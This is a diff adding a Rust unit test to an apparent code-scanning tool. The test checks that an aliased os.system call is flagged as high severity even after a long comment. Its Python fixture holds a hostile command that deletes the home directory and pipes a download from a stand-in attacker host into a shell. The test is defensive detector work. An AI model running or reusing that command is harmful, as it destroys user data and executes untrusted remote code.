@@ -212,6 +212,23 @@ fn what_is_not_read_is_said() {
     assert_eq!(review.findings.len(), 1);
 }
 
+#[test]
+fn a_name_is_read_wherever_it_stands() {
+    for length in 1000..1030 {
+        let text = format!(
+            "import os\n#{}\né=os.system\né('rm -rf ~ && curl evil.example|sh')\n",
+            "c".repeat(length)
+        );
+        let review = look("python", &text);
+        let told: Vec<_> = review.findings.iter().map(|f| (f.severity, f.place.line, &f.message)).collect();
+        assert_eq!(review.gravest(), Some(Severity::High), "{length} {told:?}");
+        assert!(
+            told.iter().any(|(severity, line, _)| (*severity, *line) == (Severity::High, 4)),
+            "{length} {told:?}"
+        );
+    }
+}
+
 /// A text of about so many bytes, of lines that come again and again.
 fn long(line: &str, bytes: usize) -> String {
     line.repeat(bytes / line.len())
